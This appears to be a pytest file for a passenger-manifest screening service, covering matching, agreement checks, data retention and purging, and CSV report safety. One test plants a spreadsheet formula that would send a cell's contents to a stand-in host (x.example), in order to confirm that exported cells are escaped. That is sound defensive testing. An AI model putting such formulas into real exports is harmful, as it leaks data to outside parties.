"""Screening a generated manifest over real gRPC: hits equal the ground truth, results are kept,
follow-ups work from a hit, a peer without an agreement is "not granted", and expired
manifests are purged with a trail entry."""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from match_support import holder, install, load_records, match_agreement, synthetic

from node.errors import ConfigError
from node.manifests.paxlst import read_paxlst
from node.manifests.paxlst_writer import write_paxlst
from node.manifests.retention import (
    Purge,
    expiry,
    purge_expired,
    record_reports,
    retention_days,
    set_retention_days,
)
from node.manifests.sample import expected_hits, sample_manifest
from node.manifests.screen import EXIT_HIT, save_screening, screen_manifest
from node.matching.client import MatchClient

PURPOSE = "identity_verification"


@pytest.fixture
def screened(
    live_federation_factory: Callable[..., Any], tmp_path_factory: pytest.TempPathFactory
) -> dict[str, Any]:
    live = live_federation_factory()
    now = live.clocks["CRI"].now()
    base = tmp_path_factory.getbasetemp()
    files = {"PAN": synthetic(base, "PAN", 1500, 31), "HND": synthetic(base, "HND", 1500, 32)}
    for peer, folder in files.items():
        load_records(live.runtimes[peer], folder, now)
        holder(live.runtimes[peer]).rebuild(now)
        live.serve(peer)
    install(live.runtimes, match_agreement("PAN", "CRI", now), now)  # HND: no agreement
    manifest, planted = sample_manifest(
        files, travellers=60, seed=5, departure=now + dt.timedelta(hours=3)
    )
    text = write_paxlst(manifest, recipient="CRI", prepared_at=now)
    parsed = read_paxlst(text.encode(), today=now.date())
    with MatchClient(live.runtimes["CRI"], timeout=30.0) as client:
        screening = screen_manifest(client, parsed, purpose=PURPOSE)
        followup = None
        hit = next(o for _, o in screening.hits() if o.dataset == "travel_documents")
        followup = client.follow_up(hit, case_reference="CRI-APIS-1", purpose=PURPOSE)
    return {"live": live, "now": now, "files": files, "manifest": parsed, "planted": planted,
            "screening": screening, "followup": followup}  # fmt: skip


def test_hits_are_exactly_the_ground_truth(screened: dict[str, Any]) -> None:
    screening, files = screened["screening"], screened["files"]
    granted = {"PAN": ("travel_documents", "document_alerts", "persons_of_interest", "identities")}
    expected = expected_hits(screened["manifest"], {"PAN": files["PAN"]}, granted)
    found = {
        r.traveller.position: {(o.peer, o.dataset) for o in r.hits()} for r in screening.travellers
    }
    assert found == expected
    assert sum(1 for v in expected.values() if v) >= 5
    for plant in screened["planted"]:  # every traveller taken from PAN's files is found there
        if plant.peer == "PAN":
            assert ("PAN", plant.dataset) in found[plant.position], plant
    assert screening.status == "hit" and screening.exit_code == EXIT_HIT
    hnd = {o.status for r in screening.travellers for o in r.results.values() if o.peer == "HND"}
    assert hnd == {"not granted"}
    assert screened["followup"].status == "released"
    assert set(screened["followup"].released) == {"first_seen_quarter"}


def test_results_are_kept_and_purged_after_the_retention(screened: dict[str, Any]) -> None:
    runtime = screened["live"].runtimes["CRI"]
    now: dt.datetime = screened["now"]
    store = runtime.store
    assert retention_days(store, {}) == 30
    set_retention_days(store, 7, now)
    assert retention_days(store, {}) == 7
    assert retention_days(store, {"ENLACE_MANIFEST_RETENTION_DAYS": "2"}) == 2
    with pytest.raises(ConfigError):
        retention_days(store, {"ENLACE_MANIFEST_RETENTION_DAYS": "forever"})
    manifest_id = save_screening(
        store, screened["screening"], now=now, expires_at=expiry(store, now, {})
    )
    kept = store.manifests.get(manifest_id)
    assert kept.status == "hit" and kept.travellers == 60
    assert kept.expires_at == now + dt.timedelta(days=7)
    travellers = store.manifests.travellers(manifest_id)
    assert len(travellers) == 60
    hit_rows = sum(1 for _, results in travellers if any(x["result"] == "hit" for x in results))
    assert hit_rows == sum(1 for r in screened["screening"].travellers if r.hits()) > 0
    assert purge_expired(store, now + dt.timedelta(days=6)).manifests == []
    assert purge_expired(store, now + dt.timedelta(days=8)).manifests == [manifest_id]
    assert store.manifests.travellers(manifest_id) == []
    actions = [e.action for e in store.manifests.events(manifest_id)]
    assert actions == ["screened", "purged"]
    trail = " ".join(str(e.detail) for e in store.manifests.events(manifest_id))
    for traveller in screened["manifest"].travellers[:10]:
        assert traveller.document_number not in trail


def test_report_files_go_with_their_manifest_unless_someone_changed_them(
    screened: dict[str, Any], tmp_path: Path
) -> None:
    store = screened["live"].runtimes["CRI"].store
    now: dt.datetime = screened["now"]

    def kept_until(days: int, text: str, *paths: Path) -> str:
        manifest_id = save_screening(
            store, screened["screening"], now=now, expires_at=now + dt.timedelta(days=days)
        )
        for path in paths:
            path.write_text(f"{text}: the travellers of {manifest_id}\n", encoding="utf-8")
        record_reports(store, manifest_id, paths, now)
        return manifest_id

    csv_file, json_file, reused = (tmp_path / n for n in ("a.csv", "a.json", "daily.csv"))
    first = kept_until(7, "first", csv_file, json_file, reused)
    second = kept_until(14, "second", reused)  # the same --out again: it rewrote daily.csv
    manifest_file = tmp_path / "flight.edi"  # the node did not write it: never touched
    manifest_file.write_text("UNA:+.? '\n", encoding="utf-8")

    assert purge_expired(store, now + dt.timedelta(days=6)) == Purge()
    json_file.write_text("the operator's own notes\n", encoding="utf-8")  # changed since
    purge = purge_expired(store, now + dt.timedelta(days=8))
    assert purge.manifests == [first]
    assert purge.reports_deleted == [str(csv_file.resolve())]
    assert purge.reports_kept == [
        (str(json_file.resolve()), "changed since the screening wrote it"),
        (
            str(reused.resolve()),
            f"rewritten by the screening kept as {second}; it goes with that one",
        ),
    ]
    assert not csv_file.exists() and json_file.exists() and reused.exists()
    assert manifest_file.exists()
    events = {e.action: e.detail for e in store.manifests.events(first)}
    assert [f["path"] for f in events["reports"]["files"]] == [
        str(p.resolve()) for p in (csv_file, json_file, reused)
    ]
    assert events["reports_deleted"]["deleted"] == [str(csv_file.resolve())]
    assert "purged" in events
    assert purge_expired(store, now + dt.timedelta(days=9)) == Purge()  # nothing twice
    later = purge_expired(store, now + dt.timedelta(days=15))
    assert later.manifests == [second] and later.reports_deleted == [str(reused.resolve())]
    assert not reused.exists() and json_file.exists()


def test_the_cli_refuses_an_unknown_date_policy_before_anything_is_sent(tmp_path: Any) -> None:
    from typer.testing import CliRunner

    from node.cli.main import app

    manifest = tmp_path / "flight.edi"
    manifest.write_text("UNA:+.? '", encoding="utf-8")
    args = ["screen", "manifest", str(manifest), "--home", str(tmp_path / "none"), "--json"]
    refused = CliRunner().invoke(app, [*args, "--dates", "weekly"])
    assert refused.exit_code != 0 and "unknown --dates 'weekly'" in refused.output
    assert (
        "covering, every, finest" in refused.output or "every, covering, finest" in refused.output
    )


def test_no_cell_of_the_csv_report_runs_as_a_formula(
    screened: dict[str, Any], tmp_path: Path
) -> None:
    """Travellers' names come from an airline's file and details from peers: opened in a
    spreadsheet, the report must show them, not run them."""
    import csv
    import dataclasses

    from node.cli.screen_cmd import write_reports
    from node.manifests.model import Rejected

    screening = screened["screening"]
    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
    rejected = Rejected(99, "segment 400", evil, ("-no document, +no birth date",))
    screening = dataclasses.replace(screening, unqueried=[*screening.unqueried, rejected])
    csv_path, _ = write_reports(screening, tmp_path / "flight")
    with csv_path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    row = next(r for r in rows if r["position"] == "99")
    assert row["name"] == "'" + evil and row["detail"] == "'-no document, +no birth date"
    for cell in (c for r in rows for c in r.values()):
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert len(rows) == len(screening.csv_rows())  # nothing dropped
